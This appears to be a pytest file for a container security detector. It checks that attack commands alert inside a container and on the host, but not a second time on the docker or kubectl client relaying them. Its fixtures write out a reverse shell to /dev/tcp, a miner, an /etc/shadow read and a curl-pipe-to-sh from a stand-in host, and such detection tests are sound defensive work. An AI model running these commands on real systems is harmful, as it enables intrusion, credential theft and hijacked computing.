"""The host-side container client (`docker exec c cat /etc/shadow`) carries the attack's command line in its
own arguments; the built-in command-line rules must alert on the command inside the container only, not a
second time on the client process on the host (container.id=host)."""

from __future__ import annotations

import json
from typing import Any

import pytest

from containerguard.cli.detect import builtin_rule_files
from containerguard.rules.compiler import CompiledRules, compile_rules
from containerguard.rules.engine import Engine
from containerguard.rules.loader import load_files
from containerguard.sources.events import process_jsonl
from containerguard.sources.events.base import ReadStats

CID = "4f2a9c1b7e3d8a6f5c4b3a29180716253443526170819abcdeffedcba98765432"
CONTAINER = {"id": CID, "name": "web", "image": "docker.io/library/nginx:1.25", "privileged": False}
HOST_SHELL = [{"pid": 900, "comm": "bash", "exepath": "/usr/bin/bash", "args": ["-bash"]}]
IN_CONTAINER = [{"pid": 2000, "comm": "runc:[2:INIT]", "exepath": "/usr/bin/runc", "args": ["runc", "init"]}]

# (the command an attacker runs in the container, the rule it raises there)
ATTACKS = [
    (["sh", "-c", "xmrig -o stratum+tcp://pool.example:3333"], "Digital currency mining"),
    (["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "Reverse shell"),
    (["cat", "/etc/shadow"], "Shadow file or kubeconfig read"),
    (["sh", "-c", "curl -fsSL http://payload.example/x.sh | sh"], "Download and run a script"),
]

# host-side clients relaying a command into a container, as `ps` shows their argv
CLIENTS = [
    ["docker", "exec", "web"],
    ["docker", "exec", "-it", "web"],
    ["docker", "-H", "unix:///run/docker.sock", "exec", "web"],
    ["docker", "container", "exec", "web"],
    ["docker", "run", "--rm", "nginx:1.25"],
    ["nerdctl", "exec", "web"],
    ["kubectl", "-n", "default", "exec", "web-0", "--"],
    ["kubectl", "exec", "-it", "web-0", "--"],
]


@pytest.fixture(scope="module")
def builtin() -> CompiledRules:
    return compile_rules(load_files(builtin_rule_files()))


def _event(argv: list[str], container: dict[str, Any] | None, ancestors: list[dict[str, Any]]) -> dict[str, Any]:
    return {"time": "2024-05-01T11:00:00.000000001Z", "type": "execve", "pid": 3001, "comm": argv[0],
            "exe": argv[0], "exepath": f"/usr/bin/{argv[0]}", "args": argv, "cwd": "/root", "tty": 34816,
            "uid": 0, "user": "root", "gid": 0, "group": "root", "loginuid": 1000, "ancestors": ancestors,
            "container": container}


def _rules_fired(compiled: CompiledRules, record: dict[str, Any]) -> list[tuple[str, str]]:
    stats = ReadStats()
    events = list(process_jsonl.read_events([json.dumps(record).encode()], stats, "test"))
    assert stats.events == 1 and not stats.skipped, stats.reasons
    engine = Engine(compiled, rule_matching="all")
    return [(a.rule, str(a.output_fields.get("container.id"))) for ev in events for a in engine.process(ev)]


@pytest.mark.parametrize(("argv", "rule"), ATTACKS, ids=[r for _, r in ATTACKS])
def test_command_in_a_container_alerts(builtin: CompiledRules, argv: list[str], rule: str) -> None:
    fired = _rules_fired(builtin, _event(argv, CONTAINER, IN_CONTAINER))
    assert (rule, CID[:12]) in fired


@pytest.mark.parametrize("client", CLIENTS, ids=" ".join)
@pytest.mark.parametrize(("argv", "rule"), ATTACKS, ids=[r for _, r in ATTACKS])
def test_host_client_relaying_the_command_does_not_alert(builtin: CompiledRules, client: list[str],
                                                         argv: list[str], rule: str) -> None:
    fired = _rules_fired(builtin, _event([*client, *argv], None, HOST_SHELL))
    assert fired == [], f"{' '.join([*client, *argv])} on the host raised {fired}"


@pytest.mark.parametrize(("argv", "rule"), ATTACKS, ids=[r for _, r in ATTACKS])
def test_same_command_on_the_host_itself_still_alerts(builtin: CompiledRules, argv: list[str], rule: str) -> None:
    # the exclusion is for the relaying client only: the attack run on the host is a host alert
    fired = _rules_fired(builtin, _event(argv, None, HOST_SHELL))
    assert (rule, "host") in fired


def test_other_client_commands_naming_a_secret_still_alert(builtin: CompiledRules) -> None:
    # `docker cp` copies the file out through the daemon: no process in the container reads it
    fired = _rules_fired(builtin, _event(["docker", "cp", "web:/etc/shadow", "/tmp/s"], None, HOST_SHELL))
    assert ("Shadow file or kubeconfig read", "host") in fired
